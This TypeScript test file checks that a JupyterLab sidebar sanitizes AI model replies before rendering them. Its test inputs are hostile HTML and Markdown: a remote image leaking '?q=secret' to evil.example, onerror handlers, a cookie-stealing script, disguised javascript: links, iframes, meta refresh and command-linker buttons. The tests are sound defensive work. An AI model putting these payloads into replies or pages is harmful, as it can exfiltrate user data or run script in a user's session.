/**
 * Model replies rendered as the sidebar renders them (Markdown.tsx): the
 * registry from `createModelTextRendermime`, `createRenderer('text/markdown')`,
 * an untrusted MimeModel, with JupyterLab's real Markdown parser (marked, with
 * CodeMirror highlighting) and its real sanitizer underneath.
 */
import { EditorLanguageRegistry } from '@jupyterlab/codemirror';
import { createMarkdownParser } from '@jupyterlab/markedparser-extension';
import * as RenderMime from '@jupyterlab/rendermime';

import {
  createModelTextRendermime,
  RenderedModelText
} from '../src/widgets/modelTextRendermime';
import { ModelTextSanitizer } from '../src/widgets/modelTextSanitizer';

const {
  MimeModel,
  RenderMimeRegistry,
  renderMarkdown,
  standardRendererFactories
} = RenderMime;

/** A real 1×1 RGBA PNG. */
const PNG_1X1 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** Like JupyterLab's own registry: standard renderers, marked, default sanitizer. */
function createAppRendermime(): RenderMime.RenderMimeRegistry {
  const languages = new EditorLanguageRegistry();
  for (const language of EditorLanguageRegistry.getDefaultLanguages()) {
    languages.addLanguage(language);
  }
  return new RenderMimeRegistry({
    initialFactories: standardRendererFactories,
    markdownParser: createMarkdownParser(languages)
  });
}

const app = createAppRendermime();
const modelText = createModelTextRendermime(app);

async function render(
  rendermime: RenderMime.IRenderMimeRegistry,
  text: string,
  trusted = false
): Promise<HTMLElement> {
  const renderer = rendermime.createRenderer('text/markdown');
  await renderer.renderModel(
    new MimeModel({ data: { 'text/markdown': text }, trusted })
  );
  return renderer.node;
}

/** Render a model reply exactly as the sidebar does. */
function renderReply(text: string, trusted = false): Promise<HTMLElement> {
  return render(modelText, text, trusted);
}

/** Everything in `root` that a browser would load without a click. */
function autoLoads(root: Element): string[] {
  const found: string[] = [];
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.localName;
    if (
      [
        'iframe',
        'object',
        'embed',
        'link',
        'style',
        'script',
        'meta',
        'base'
      ].includes(tag)
    ) {
      found.push(tag);
    }
    for (const name of ['src', 'srcset', 'poster', 'background', 'data']) {
      const value = element.getAttribute(name);
      const inlineImage =
        tag === 'img' && name === 'src' && /^data:image\//.test(value ?? '');
      if (value !== null && !inlineImage) {
        found.push(`${tag}[${name}=${value}]`);
      }
    }
    if (/url\s*\(/i.test(element.getAttribute('style') ?? '')) {
      found.push(`${tag}[style]`);
    }
  }
  return found;
}

function eventHandlers(root: Element): string[] {
  return Array.from(root.querySelectorAll('*')).flatMap(element =>
    Array.from(element.attributes)
      .filter(attribute => attribute.name.toLowerCase().startsWith('on'))
      .map(attribute => `${element.localName}[${attribute.name}]`)
  );
}

function blockedMedia(root: Element): HTMLElement[] {
  return Array.from(
    root.querySelectorAll<HTMLElement>('.jp-AgentTeam-BlockedMedia')
  );
}

describe('model text: remote media', () => {
  it('turns a remote Markdown image into a labelled link, with no <img>', async () => {
    const node = await renderReply(
      'I loaded `cars.csv` and plotted weight against horsepower.\n\n' +
        '![chart](http://evil.example/x.png?q=secret)\n\n' +
        'The plot is saved as `weight_vs_hp.png`.'
    );

    expect(node.querySelector('img')).toBeNull();
    const [placeholder] = blockedMedia(node);
    expect(placeholder.dataset.kind).toBe('image');
    expect(placeholder.textContent).toContain('[image: chart]');
    const link = placeholder.querySelector('a')!;
    expect(link.classList).toContain('jp-AgentTeam-BlockedMedia-link');
    expect(link.getAttribute('href')).toBe(
      'http://evil.example/x.png?q=secret'
    );
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer');
    expect(node.textContent).toContain('The plot is saved as');
    expect(autoLoads(node)).toEqual([]);
  });

  it('blocks https, protocol-relative and relative image URLs alike', async () => {
    const node = await renderReply(
      '![a](https://cdn.example/a.png) ![b](//cdn.example/b.png) ![](plot.png)'
    );

    expect(node.querySelector('img')).toBeNull();
    expect(blockedMedia(node).map(span => span.textContent)).toEqual([
      '[image: a] https://cdn.example/a.png',
      '[image: b] //cdn.example/b.png',
      '[image] plot.png'
    ]);
  });

  it('loads nothing from srcset, <picture>, <video>, <audio> or CSS url()', async () => {
    const node = await renderReply(
      [
        `<img src="data:image/png;base64,${PNG_1X1}" srcset="http://evil.example/2x.png 2x">`,
        '<picture><source srcset="http://evil.example/p.webp"><img src="http://evil.example/p.png" alt="p"></picture>',
        '<video poster="http://evil.example/poster.png" src="http://evil.example/v.mp4"></video>',
        '<audio src="https://evil.example/a.mp3" controls></audio>',
        '<div style="background:url(http://evil.example/bg.png)">styled</div>',
        '<table background="http://evil.example/t.png"><tr><td>cell</td></tr></table>'
      ].join('\n')
    );

    expect(autoLoads(node)).toEqual([]);
    expect(node.querySelectorAll('img')).toHaveLength(1);
    expect(blockedMedia(node).map(span => span.dataset.kind)).toEqual([
      'image',
      'video',
      'audio'
    ]);
    expect(node.textContent).toContain('styled');
    expect(node.textContent).toContain('cell');
  });

  it('shows an inline data:image/png image', async () => {
    const node = await renderReply(
      `Here is the plot:\n\n![scatter](data:image/png;base64,${PNG_1X1})`
    );

    const img = node.querySelector('img')!;
    expect(img.getAttribute('src')).toBe(`data:image/png;base64,${PNG_1X1}`);
    expect(img.alt).toBe('scatter');
    expect(blockedMedia(node)).toEqual([]);
  });

  it('keeps only the outer link of a linked remote image (a badge)', async () => {
    const node = await renderReply(
      '[![build](https://img.example/badge.svg)](https://ci.example/run/1)'
    );

    expect(node.querySelector('img')).toBeNull();
    const links = Array.from(node.querySelectorAll('a'));
    expect(links.map(link => link.getAttribute('href'))).toEqual([
      'https://ci.example/run/1'
    ]);
    expect(links[0].textContent).toBe('[image: build]');
  });

  it('never keeps an event handler such as onerror', async () => {
    const node = await renderReply(
      'Broken: <img src=x onerror=alert(1)> and <b onmouseover="alert(2)">bold</b>\n\n' +
        '<a href="https://pandas.pydata.org" onclick="alert(3)">pandas</a>'
    );

    expect(eventHandlers(node)).toEqual([]);
    expect(node.querySelector('img')).toBeNull();
    expect(node.textContent).toContain('bold');
  });
});

describe('model text: nothing hides the rest of a reply', () => {
  it('keeps the text after an unclosed <script>', async () => {
    const node = await renderReply('<script>alert(1)\n\nThe plot is ready.');

    expect(node.querySelector('script')).toBeNull();
    expect(node.textContent).toContain('The plot is ready.');
  });

  it('keeps the text after a bare <style>', async () => {
    const node = await renderReply(
      'Done.\n\n<style>body{display:none}\n\nThe scatter plot shows a positive correlation.'
    );

    expect(node.querySelector('style')).toBeNull();
    expect(node.textContent).toContain('Done.');
    expect(node.textContent).toContain(
      'The scatter plot shows a positive correlation.'
    );
  });

  it('keeps the text after an unclosed <script>, <textarea>, <title> or comment', async () => {
    for (const opener of ['<script>', '<textarea>', '<!--', '<title>']) {
      const inline = await renderReply(
        `The columns are ${opener} weight and horsepower.`
      );
      expect(inline.textContent).toContain('weight and horsepower.');
      const block = await renderReply(`${opener}\n\nThe plot is ready.`);
      expect(block.textContent).toContain('The plot is ready.');
    }
  });

  it('drops a closed <script> together with its content', async () => {
    const node = await renderReply(
      'Before.\n\n<script>steal(document.cookie)</script>\n\nAfter.'
    );

    expect(node.textContent).not.toContain('steal');
    expect(node.textContent).toContain('Before.');
    expect(node.textContent).toContain('After.');
  });
});

describe('model text: forms, embeds and commands', () => {
  it('drops a form and its button', async () => {
    const node = await renderReply(
      'Click to continue:\n\n<form action="http://x"><button>Run</button></form>'
    );

    expect(node.querySelector('form')).toBeNull();
    expect(node.querySelector('button')).toBeNull();
    expect(node.querySelector('[action], [formaction]')).toBeNull();
  });

  it('drops inputs, selects, textareas, iframes, objects, embeds, link, meta and base', async () => {
    const node = await renderReply(
      [
        '<input type="image" src="http://evil.example/i.png">',
        '<input name="key" value="sk-...">',
        '<select><option>a</option></select>',
        '<textarea>notes</textarea>',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="https://evil.example/o.swf"></object>',
        '<embed src="https://evil.example/e.swf">',
        '<link rel="stylesheet" href="https://evil.example/s.css">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        'still here'
      ].join('\n')
    );

    expect(
      node.querySelector(
        'input, select, textarea, iframe, object, embed, link, meta, base'
      )
    ).toBeNull();
    expect(autoLoads(node)).toEqual([]);
    expect(node.textContent).toContain('still here');
  });

  it('keeps no command-linker attribute, so a click runs no JupyterLab command', async () => {
    const node = await renderReply(
      '<button data-commandlinker-command="notebook:run-all-cells">Run all</button> ' +
        '<span data-commandlinker-command="terminal:create-new">open</span>'
    );

    expect(node.querySelector('[data-commandlinker-command]')).toBeNull();
  });
});

describe('model text: links', () => {
  it('makes a javascript: link inert', async () => {
    const node = await renderReply(
      'To see the result, [click](javascript:alert(1)).'
    );

    const hrefs = Array.from(node.querySelectorAll('[href]')).map(
      element => element.getAttribute('href') ?? ''
    );
    expect(hrefs.filter(href => /javascript:/i.test(href))).toEqual([]);
    expect(node.textContent).toContain('click');
  });

  it('makes vbscript:, data: and disguised javascript: links inert', async () => {
    const node = await renderReply(
      '<a href="jav&#x09;ascript:alert(1)">one</a> ' +
        '<a href=" JAVASCRIPT:alert(2)">two</a> ' +
        '<a href="vbscript:msgbox(3)">three</a> ' +
        '<a href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;">four</a>'
    );

    expect(node.querySelectorAll('a[href]')).toHaveLength(0);
    expect(node.textContent).toContain('four');
  });

  it('opens a web link in a new tab with rel="noopener noreferrer"', async () => {
    const node = await renderReply(
      'See the [docs](https://pandas.pydata.org) or https://matplotlib.org.'
    );

    const links = Array.from(node.querySelectorAll('a'));
    expect(links.map(link => link.getAttribute('href'))).toEqual([
      'https://pandas.pydata.org',
      'https://matplotlib.org'
    ]);
    for (const link of links) {
      expect(link.target).toBe('_blank');
      expect(link.rel).toBe('noopener noreferrer');
      expect(link.getAttribute('referrerpolicy')).toBe('no-referrer');
    }
  });
});

describe('model text: code', () => {
  it('shows a python fence as highlighted code', async () => {
    const source =
      "import pandas as pd\ndf = pd.read_csv('cars.csv')\nprint(df.columns)";
    const node = await renderReply(
      'Here is the code:\n\n```python\n' + source + '\n```'
    );

    const code = node.querySelector('pre > code.language-python')!;
    expect(code.textContent).toBe(source);
    expect(code.querySelectorAll('span').length).toBeGreaterThan(0);
  });

  it('shows an html fence as its source text', async () => {
    const source =
      '<form action="http://x"><button>Run</button></form>\n<script>alert(1)</script>\n<img src="http://evil.example/x.png">';
    const node = await renderReply('```html\n' + source + '\n```');

    expect(node.querySelector('pre > code')!.textContent).toBe(source);
    expect(node.querySelector('form, button, script, img')).toBeNull();
  });
});

describe('model text: the render path', () => {
  it('treats a model marked trusted as untrusted', async () => {
    const node = await renderReply(
      '<script>alert(1)</script>![x](http://evil.example/x.png)',
      true
    );

    expect(node.querySelector('script, img')).toBeNull();
    expect(node.classList).not.toContain('jp-mod-trusted');
  });

  it('is what stops the load: the application registry keeps the remote <img>', async () => {
    const reply = '![chart](http://evil.example/x.png?q=secret)';

    const plain = await render(app, reply);
    expect(plain.querySelector('img')?.getAttribute('src')).toBe(
      'http://evil.example/x.png?q=secret'
    );
    expect((await renderReply(reply)).querySelector('img')).toBeNull();
  });

  it('blocks loads through the stock renderMarkdown too, where rel is reset', async () => {
    const host = document.createElement('div');
    await renderMarkdown({
      host,
      source:
        '![chart](http://evil.example/x.png) [docs](https://pandas.pydata.org)',
      trusted: false,
      sanitizer: new ModelTextSanitizer(),
      resolver: null,
      linkHandler: null,
      shouldTypeset: false,
      latexTypesetter: null,
      markdownParser: app.markdownParser
    });

    expect(host.querySelector('img')).toBeNull();
    const docs = Array.from(host.querySelectorAll('a')).find(
      link => link.textContent === 'docs'
    )!;
    // JupyterLab's hardenAnchorLinks sets rel="noopener"; the referrer policy stays.
    expect(docs.target).toBe('_blank');
    expect(docs.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('clones the application registry and leaves it as it was', () => {
    expect(modelText.sanitizer).toBeInstanceOf(ModelTextSanitizer);
    expect(modelText.markdownParser).toBe(app.markdownParser);
    expect(modelText.linkHandler).toBe(app.linkHandler);
    expect(modelText.resolver).toBeNull();
    expect(modelText.createRenderer('text/markdown')).toBeInstanceOf(
      RenderedModelText
    );
    expect(app.sanitizer).not.toBeInstanceOf(ModelTextSanitizer);
    expect(app.createRenderer('text/markdown')).not.toBeInstanceOf(
      RenderedModelText
    );
  });
});
